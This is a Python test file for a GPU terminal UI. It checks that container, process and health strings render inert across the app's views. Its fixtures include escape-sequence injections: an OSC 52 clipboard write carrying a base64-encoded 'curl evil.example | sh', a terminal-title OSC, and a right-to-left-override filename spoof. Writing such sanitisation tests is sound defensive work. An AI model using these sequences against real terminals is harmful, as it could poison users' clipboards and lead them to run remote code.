"""Reliability: hostile container and process strings render inert on every view."""

from __future__ import annotations

import base64
import re
import time
from dataclasses import replace

from textual.pilot import Pilot
from textual.widgets import Static

from gputui.model.containers import ExecResult
from gputui.model.snapshot import HostInfo, Snapshot
from gputui.model.status import HealthCheck, HealthStatus
from gputui.ui.app import GpuTuiApp
from gputui.ui.screens.confirm import ConfirmScreen
from gputui.ui.screens.evidence import EvidenceScreen
from gputui.ui.screens.exec_modal import MAX_OUTPUT_LINES, ExecScreen
from tests.support.factories import FakeCollector, cid, container, gpu, proc, snapshot
from tests.support.pilot import AppFactory, node_label, ready, screen_lines

#: C0 and C1 control characters and DEL: none may reach a rendered cell.
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


async def _settle(pilot: Pilot[None]) -> None:
    await pilot.pause()
    await pilot.pause()


# ----------------------------------------------------------------------- 6. hostile strings

MARKUP = "[bold red]x[/]"
ANSI = "\x1b[31m"
OSC = "\x1b]0;pwned\x07"
C0_C1 = "\x01\x07\x08\x0b\x0c\x0d\x1b\x7f\x85\x9b"
LONG = "L" * 20_000
#: What surrogateescape makes of non-UTF-8 bytes (psutil, os.fsdecode): shown as U+FFFD.
BAD_BYTES = b"\xff\xfe".decode("utf-8", "surrogateescape")


def hostile(tag: str) -> str:
    return f"{MARKUP}{tag}{BAD_BYTES}{ANSI}{OSC}{C0_C1}{LONG}"


def _hostile_snapshot() -> object:
    processes = [
        proc(611, 0, 4096, cid(1), hostile("cmd"), user=hostile("user")[:32]),
        proc(612, 1, 1024, cid(1), f"{MARKUP} {ANSI}python3{OSC} {BAD_BYTES}"),
    ]
    containers = [
        container(
            1,
            hostile("name"),
            processes,
            image=hostile("image"),
            compose_project=hostile("proj"),
            compose_service=hostile("svc"),
            k8s_pod=hostile("pod"),
            k8s_namespace=hostile("ns"),
        ),
        container(4, hostile("other"), processes, gpu_request=None, image=hostile("img2")),
    ]
    return snapshot(processes=processes, containers=containers)


def _assert_inert(app: GpuTuiApp, where: str) -> str:
    lines = screen_lines(app)
    for line in lines:
        assert not CONTROL.search(line), (where, repr(line[:200]))
        assert not any(0xD800 <= ord(c) <= 0xDFFF for c in line), where
    svg = app.export_screenshot()
    assert "\x1b" not in svg and not CONTROL.search(svg.replace("\n", "")), where
    text = "\n".join(lines)
    assert "pwned" not in text, where  # the OSC sequence is stripped whole, never shown
    return text


async def test_hostile_strings_render_inert_everywhere(make_app: AppFactory) -> None:
    exec_result = ExecResult(("nvidia-smi",), 0, stdout=hostile("stdout") + "\nok\n")
    collector = FakeCollector([_hostile_snapshot()], exec_result=exec_result)  # type: ignore[list-item]
    app = make_app(collector)
    async with app.run_test(size=(200, 50)) as pilot:
        await ready(pilot)
        await _settle(pilot)
        tree = app.main.ctree
        tree.nodes_by_key["g:others"].expand()
        await _settle(pilot)
        text = _assert_inert(app, "containers tab")
        assert f"{MARKUP}name\ufffd" in text  # markup shown literally, bad bytes as U+FFFD
        assert f"{MARKUP}cmd\ufffd" in text
        assert f"{MARKUP}oth" in text  # the name column cuts it: still literal markup
        for node in tree.nodes_by_key.values():  # the labels themselves, off screen too
            assert not CONTROL.search(node_label(node).plain), repr(node_label(node).plain[:120])
            assert len(node_label(node).plain) < 1000  # 20,000 characters never reach a row

        await pilot.press("2")
        await _settle(pilot)
        text = _assert_inert(app, "processes tab")
        assert f"{MARKUP}cmd\ufffd" in text or f"{MARKUP}name" in text, text

        await pilot.press("1")
        await _settle(pilot)
        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
        await _settle(pilot)
        await pilot.press("e")
        await _settle(pilot)
        assert isinstance(app.screen, EvidenceScreen)
        text = _assert_inert(app, "evidence view")
        assert f"{MARKUP}name\ufffd" in text
        await pilot.press("escape")
        await _settle(pilot)

        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
        await _settle(pilot)
        await pilot.press("x")
        for _ in range(100):
            if isinstance(app.screen, ExecScreen) and app.screen.result is not None:
                break
            await pilot.pause(0.02)
        assert isinstance(app.screen, ExecScreen)
        title = app.screen.query_one(".dialog-title", Static).render()
        assert not CONTROL.search(str(title))
        assert f"{MARKUP}name\ufffd" in str(title)
        text = _assert_inert(app, "exec modal")
        assert f"nvidia-smi in {MARKUP}name" in text
        assert f"{MARKUP}stdout" in text


# ------------------------------------- bidi overrides, zero-width characters, OSC 52 writes

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: would show "exe.txt" as "txt.exe"
ZWSP = "\u200b"  # ZERO WIDTH SPACE: two names that look alike but differ
ZWJ = "\u200d"
#: OSC 52: a terminal that honours it puts the payload on the user's clipboard.
CLIPBOARD = base64.b64encode(b"curl evil.example | sh").decode()
OSC52 = f"\x1b]52;c;{CLIPBOARD}\x07"
#: The same through the 8-bit C1 introducer and an ST terminator: made inert (the introducer
#: becomes a visible "?"), the payload then only text.
OSC52_C1 = f"\x9d52;c;{CLIPBOARD}\x1b\\"
INVISIBLE = (RLO, ZWSP, ZWJ, "\u2066", "\u2069", "\ufeff")


def sneaky(tag: str) -> str:
    return f"{tag}{RLO}gpj.exe{ZWSP}{ZWJ}\u2066x\u2069\ufeff{OSC52}{MARKUP}{OSC52_C1}"


def _assert_invisible_free(app: GpuTuiApp, where: str) -> str:
    text = _assert_inert(app, where)
    for char in INVISIBLE:
        assert char not in text, (where, hex(ord(char)))
    assert "]52;c;" not in text, where  # the 7-bit OSC 52 write is stripped whole
    svg = app.export_screenshot()
    assert "\x9d" not in svg and RLO not in svg and ZWSP not in svg, where
    return text


def _sneaky_snapshot() -> Snapshot:
    processes = [proc(611, 0, 4096, cid(1), sneaky("cmd"), user=sneaky("u")[:20])]
    containers = [
        container(
            1,
            sneaky("name"),
            processes,
            image=sneaky("image"),
            compose_project=sneaky("proj"),
            compose_service=sneaky("svc"),
            k8s_pod=sneaky("pod"),
            k8s_namespace=sneaky("ns"),
        )
    ]
    health = [
        HealthCheck(
            sneaky("check.id"),
            HealthStatus.FAIL,
            sneaky("summary"),
            details=(sneaky("detail"),),
            fix=sneaky("fix") + "\n" + sneaky("fix2"),
            docs=sneaky("docs"),
            subject=sneaky("subject"),
        )
    ]
    base = snapshot(
        gpus=(gpu(0, name=sneaky("gpu")),),
        processes=processes,
        containers=containers,
        health=health,
    )
    host = HostInfo(
        hostname=sneaky("host"),
        driver_version=sneaky("580"),
        cuda_driver_version=sneaky("13"),
    )
    return replace(base, host=host)


async def test_bidi_zero_width_and_osc52_never_reach_the_screen(make_app: AppFactory) -> None:
    lines = "\n".join(f"{i:05d} {sneaky('line')}" for i in range(10_000))
    exec_result = ExecResult(
        (sneaky("nvidia-smi"),), 0, stdout=lines, stderr=sneaky("err"), error=sneaky("error")
    )
    collector = FakeCollector([_sneaky_snapshot()], exec_result=exec_result)
    collector.signal_answer = sneaky("refused")
    app = make_app(collector)
    async with app.run_test(size=(200, 50)) as pilot:
        await ready(pilot)
        await _settle(pilot)
        text = _assert_invisible_free(app, "containers tab + header + GPU panel")
        assert "name?gpj.exe" in text  # shown, with the override as a visible "?"
        assert "580?gpj.exe" in app.main.header.text  # the driver version in the header
        for node in app.main.ctree.nodes_by_key.values():
            for char in INVISIBLE:
                assert char not in node_label(node).plain

        for tab in ("2", "4", "5", "3"):
            await pilot.press(tab)
            await _settle(pilot)
            _assert_invisible_free(app, f"tab {tab}")
        app.main.health.table.move_cursor(row=0)
        await _settle(pilot)
        text = _assert_invisible_free(app, "health details")
        assert "fix?gpj.exe" in text

        await pilot.press("1")
        await _settle(pilot)
        tree = app.main.ctree
        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
        await _settle(pilot)
        await pilot.press("e")
        await _settle(pilot)
        assert isinstance(app.screen, EvidenceScreen)
        _assert_invisible_free(app, "evidence view")
        await pilot.press("escape")
        await _settle(pilot)

        tree.move_cursor(tree.nodes_by_key[f"c:{cid(1)}"])
        await _settle(pilot)
        started = time.monotonic()
        await pilot.press("x")
        for _ in range(250):
            if isinstance(app.screen, ExecScreen) and app.screen.result is not None:
                break
            await pilot.pause(0.02)
        await _settle(pilot)
        assert isinstance(app.screen, ExecScreen)
        assert time.monotonic() - started < 10  # 10,000 lines do not stall the UI
        title = str(app.screen.query_one(".dialog-title", Static).render())
        for char in INVISIBLE:
            assert char not in title
        output = str(app.screen.query_one("#exec-output", Static).content)
        for char in INVISIBLE:
            assert char not in output
        assert "]52;c;" not in output and "\x1b" not in output and "\x9d" not in output
        assert "00000 line?gpj.exe" in output
        assert f"{10_000 - MAX_OUTPUT_LINES:,} more lines not shown" in output
        assert output.count("\n") < MAX_OUTPUT_LINES + 50  # bounded, whatever the command printed
        _assert_invisible_free(app, "exec modal")
        await pilot.press("escape")
        await _settle(pilot)

        # Notifications carry names and engine texts: plain text, sanitised.
        await pilot.press("2")
        await _settle(pilot)
        await pilot.press("T")
        await _settle(pilot)
        assert isinstance(app.screen, ConfirmScreen)
        assert "cmd?gpj.exe" in _assert_invisible_free(app, "confirmation")
        await pilot.press("y")
        for _ in range(100):
            if any("failed" in n.message for n in app._notifications):
                break
            await pilot.pause(0.02)
        app.notify(sneaky("direct") + "[/]", title=sneaky("title"))  # unbalanced markup too
        await _settle(pilot)
        messages = [(n.title, n.message) for n in app._notifications]
        assert any("refused?gpj.exe" in m for _, m in messages), messages
        for title_text, message in messages:
            for char in INVISIBLE:
                assert char not in message and char not in title_text
            assert "]52;c;" not in message and "\x1b" not in message and "\x9d" not in message
        assert all(not n.markup for n in app._notifications)
        _assert_invisible_free(app, "notifications")
